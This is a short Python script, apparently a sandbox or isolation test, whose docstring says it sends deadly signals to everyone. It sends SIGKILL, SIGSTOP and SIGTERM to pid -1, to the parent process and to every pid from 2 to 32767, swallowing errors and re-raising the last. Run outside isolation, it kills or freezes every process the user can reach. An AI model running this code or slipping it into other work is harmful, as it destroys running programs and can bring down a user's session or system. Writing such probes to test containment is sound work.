"""Sends deadly signals to everybody whose number it can guess."""

import os
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    for pid in (-1, os.getppid(), *range(2, 32768)):
        try:
            os.kill(pid, number)
        except OSError as error:
            failure = error
raise failure
